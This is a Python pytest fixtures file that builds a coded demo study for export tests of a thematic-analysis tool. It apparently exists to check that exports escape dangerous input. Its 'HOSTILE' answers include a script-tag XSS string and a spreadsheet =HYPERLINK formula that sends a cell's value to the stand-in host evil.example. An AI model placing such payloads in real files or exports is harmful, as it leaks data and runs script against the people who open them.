"""Fixtures for export tests: the demo corpus coded by two scripted coders, consensus and the machine.

The coders follow corpora/ai-therapy-key.csv (the corpus writer's intended themes): "ana" exactly,
"ben" with deliberate changes; "consensus" is the key; the machine is a fake suggest run whose scores
sit above the threshold for the key's themes. The project is built once per session and copied.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from tests.conftest import (
    DEMO_CODEBOOK,
    DEMO_CSV,
    DEMO_THEMES,
    add_fake_suggest_run,
    ben_changes,
    read_demo_key,
)

THEMES = DEMO_THEMES
HOSTILE = [
    (
        "H01",
        "trainee",
        "<script>alert('pwned')</script> I think [b]bold[/b] claims need [red]care[/red] & thought.",
    ),
    ("H02", "qualified", '=HYPERLINK("http://evil.example/?x="&A1, "click me")'),
    ("H03", "trainee", "+44 is my phone prefix; machines cannot hold a frame."),
    ("H04", "qualified", "-1 for the idea. <b>No</b> chance, it would harm clients."),
    ("H05", "trainee", "@everyone it could help with waiting lists, but the bond matters."),
    ("H06", "qualified", "Ça dépend: emojis 🙂 and naïve accents, $x$ and {{ jinja }} {% raw %}."),
]


KEY = read_demo_key()
ben = ben_changes


add_suggest_run = add_fake_suggest_run


def add_discover_run(project) -> int:
    """A fake discovery run: clusters by the key's first theme, points on a circle."""
    import math

    from thematic.clock import utc_now
    from thematic.store import corpus
    from thematic.store import discover as store

    units = corpus.list_units(project)
    label = {
        u.id: (THEMES.index(sorted(KEY[u.respondent_id])[0]) if KEY.get(u.respondent_id) else -1)
        for u in units
    }
    with project.transaction():
        run_id = store.insert_run(
            project,
            codebook_version_id=1,
            model="fake",
            created_at=utc_now(),
            parameters={
                "method": "agglomerative",
                "k": 4,
                "random_state": 0,
                "theme_points": [[t, t.title(), math.cos(i), math.sin(i)] for i, t in enumerate(THEMES)],
            },
        )
        rows = []
        for c in [0, 1, 2, 3, -1]:
            members = [u.id for u in units if label[u.id] == c]
            rows.append(
                {
                    "cluster": c,
                    "size": len(members),
                    "keywords": ["machine", "client", f"kw{c}"],
                    "exemplars": members[:2],
                    "nearest_theme": THEMES[c] if c >= 0 else None,
                    "similarity": 0.5 if c >= 0 else None,
                    "is_candidate": c == 3,
                }
            )
        store.insert_clusters(project, run_id, rows)
        store.insert_members(
            project,
            run_id,
            [
                (
                    u.id,
                    label[u.id],
                    math.cos(label[u.id] + 0.01 * i) * 3 + 0.1 * (i % 5),
                    math.sin(label[u.id] + 0.01 * i) * 3,
                )
                for i, u in enumerate(units)
            ],
        )
    return run_id


def code_all(project, coder: str, codings: dict[str, frozenset[str]], *, notes: dict[str, str] | None = None):
    from thematic.review.decisions import Decision
    from thematic.store.codebooks import require_current
    from thematic.store.corpus import list_units
    from thematic.store.decisions import record_many

    cb_hash = require_current(project).content_hash
    record_many(
        project,
        [
            Decision.new(
                coder,
                u.id,
                codings[u.respondent_id],
                note=(notes or {}).get(u.respondent_id),
                codebook_hash=cb_hash,
            )
            for u in list_units(project)
            if u.respondent_id in codings
        ],
    )


def build_study(path: Path | str, *, hostile: bool = False, machine: bool = True, discover: bool = True,
                folder: Path | None = None) -> Path | str:
    """The coded demo study at ``path`` (a file, or a PostgreSQL URL with ``folder`` for scratch files)."""
    from thematic.codebook.load import load_codebook
    from thematic.ingest.importer import ImportOptions, import_file
    from thematic.store.codebooks import use_codebook
    from thematic.store.project import create_project

    project, _ = create_project(path)
    with project:
        import_file(project, DEMO_CSV, ImportOptions(id_column="respondent_id", text_columns=["answer"]))
        if hostile:
            extra = (folder or Path(path).parent) / "hostile.csv"
            with extra.open("w", encoding="utf-8", newline="") as fh:
                writer = csv.writer(fh)
                writer.writerow(["respondent_id", "role", "answer"])
                writer.writerows(HOSTILE)
            import_file(project, extra, ImportOptions(id_column="respondent_id", text_columns=["answer"]))
        use_codebook(project, load_codebook(DEMO_CODEBOOK))
        key = dict(KEY)
        if hostile:
            key.update(
                {
                    "H01": frozenset({"negative-responses"}),
                    "H02": frozenset({"possibilities-of-ai"}),
                    "H03": frozenset({"therapeutic-risks"}),
                    "H04": frozenset({"negative-responses"}),
                    "H05": frozenset({"mixed-support"}),
                    "H06": frozenset({"possibilities-of-ai"}),
                }
            )
        code_all(project, "ana", key, notes={"R002": "clear rejection", "R004": "grief example; =quote me"})
        code_all(
            project, "ben", {r: ben(r, t) for r, t in key.items() if r.startswith("R") and int(r[1:]) <= 80}
        )
        code_all(project, "consensus", key)
        if machine:
            add_suggest_run(project)
        if discover:
            add_discover_run(project)
    return path


@pytest.fixture(scope="session")
def _study_file(tmp_path_factory) -> Path:
    return build_study(tmp_path_factory.mktemp("study") / "study.db")


@pytest.fixture(scope="session")
def _hostile_file(tmp_path_factory) -> Path:
    return build_study(tmp_path_factory.mktemp("hostile") / "hostile.db", hostile=True)


def _copy(src: Path, dst: Path) -> Path:
    shutil.copyfile(src, dst)
    return dst


def _templates(request, tmp_path_factory) -> dict[str, str]:
    """The studies built once per session on the PostgreSQL server, as template databases."""
    server = request.getfixturevalue("pg_server")
    if not hasattr(server, "studies"):
        server.studies = {}
        for name, hostile in (("study_tpl", False), ("hostile_tpl", True)):
            server.create_database(name)
            build_study(server.url(name), hostile=hostile, folder=tmp_path_factory.mktemp(name))
            server.studies[name] = name
    return server.studies


def _clone(request, tmp_path_factory, template: str, location: str) -> str:
    from psycopg.conninfo import conninfo_to_dict

    server = request.getfixturevalue("pg_server")
    _templates(request, tmp_path_factory)
    name = conninfo_to_dict(location)["dbname"]
    server.drop_database(name)
    server.create_database(name, template=template)
    return location


@pytest.fixture
def study_path(engine, project_location, request, tmp_path_factory, tmp_path) -> Path | str:
    """A copy of the coded demo study (ana, ben, consensus, machine, a discovery run): its path (on
    PostgreSQL, the URL of a copy of a template database)."""
    if engine == "postgresql":
        return _clone(request, tmp_path_factory, "study_tpl", project_location)
    return _copy(request.getfixturevalue("_study_file"), tmp_path / "thematic.db")


@pytest.fixture
def study(study_path):
    from thematic.store.project import open_project

    project = open_project(study_path)
    yield project
    project.close()


@pytest.fixture
def hostile_path(engine, project_location, request, tmp_path_factory, tmp_path) -> Path | str:
    """The study plus six respondents whose answers hold markup, formulas and odd characters."""
    if engine == "postgresql":
        return _clone(request, tmp_path_factory, "hostile_tpl", project_location)
    return _copy(request.getfixturevalue("_hostile_file"), tmp_path / "thematic.db")


@pytest.fixture
def hostile(hostile_path):
    from thematic.store.project import open_project

    project = open_project(hostile_path)
    yield project
    project.close()
